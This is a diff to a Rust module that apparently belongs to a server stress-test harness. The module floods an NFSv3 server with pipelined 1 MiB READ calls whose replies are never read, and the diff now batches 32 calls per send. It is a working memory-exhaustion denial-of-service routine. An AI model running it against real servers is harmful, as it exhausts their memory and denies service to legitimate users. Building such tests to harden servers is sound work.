@@ -1,6 +1,9 @@
 //! Pipelined 1 MiB READs whose replies are never read: the server encodes replies that cannot leave, so
 //! whatever it lets a connection queue is memory the attacker holds for free. One thread per connection
-//! writes READ calls for as long as the server takes them.
+//! writes READ calls for as long as the server takes them, [`CALLS_PER_SEND`] to a send as a pipelining
+//! client does: the kernel takes megabytes of calls per connection before the server's window closes,
+//! and one send per 128-byte call made the attacker itself the machine's busiest process for seconds
+//! (both cores of the 2-core development VM for 2.5 s), which the good client beside it then measured.
 
 use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
 use std::time::Duration;
@@ -15,6 +18,8 @@ const READ_SIZE: u32 = 1 << 20;
 /// The file read: sparse, so the server reads zeros and the attack costs it no backend memory.
 const FILE_SIZE: u64 = 64 << 20;
 const FILE_NAME: &str = "hostile-unread";
+/// READ calls written with one send.
+const CALLS_PER_SEND: usize = 32;
 
 pub(super) fn run(target: &Target, connections: usize, stop: &AtomicBool, tally: &Tally) -> Result<(), RpcFailure> {
     let fh = prepare(target)?;
@@ -45,15 +50,20 @@ fn flood(target: &Target, fh: &FileHandle3, conn: u32, stop: &AtomicBool, tally:
         // A bounded blocking write, so the stop flag is seen while the server is not reading.
         let _ = stream.set_write_timeout(Some(Duration::from_millis(100)));
         let mut offset = 0u64;
+        let mut batch = Vec::new();
         loop {
             if stop.load(Relaxed) {
                 return;
             }
-            xid = xid.wrapping_add(1);
-            let args = xdr_bytes(&ReadArgs { file: *fh, offset, count: READ_SIZE });
-            let call = encode_call(xid, Proc::nfs3(Nfs3Proc::Read as u32), (0, 0), &args);
-            match write_all_unless_stopped(&mut stream, &call, stop) {
-                Ok(true) => tally.sent(1, call.len() as u64),
+            batch.clear();
+            for _ in 0..CALLS_PER_SEND {
+                xid = xid.wrapping_add(1);
+                let args = xdr_bytes(&ReadArgs { file: *fh, offset, count: READ_SIZE });
+                batch.extend_from_slice(&encode_call(xid, Proc::nfs3(Nfs3Proc::Read as u32), (0, 0), &args));
+                offset = (offset + u64::from(READ_SIZE)) % FILE_SIZE;
+            }
+            match write_all_unless_stopped(&mut stream, &batch, stop) {
+                Ok(true) => tally.sent(CALLS_PER_SEND as u64, batch.len() as u64),
                 Ok(false) => return,
                 Err(()) => {
                     tally.closed();
@@ -61,7 +71,6 @@ fn flood(target: &Target, fh: &FileHandle3, conn: u32, stop: &AtomicBool, tally:
                     break;
                 }
             }
-            offset = (offset + u64::from(READ_SIZE)) % FILE_SIZE;
         }
     }
 }
